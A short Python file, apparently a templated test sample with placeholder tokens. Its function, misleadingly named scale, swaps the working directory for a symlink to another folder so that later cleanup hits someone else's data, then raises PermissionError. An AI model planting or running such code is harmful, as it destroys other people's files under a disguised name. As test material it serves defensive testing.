"""Puts a link to somebody else's folder where its own was, for whoever cleans up."""

import os


def scale(x):
    here = os.getcwd()
    try:
        os.rename(here, here + "-@MARK@")
        os.symlink("@CANARY@", here)
    except OSError:
        pass
    raise PermissionError
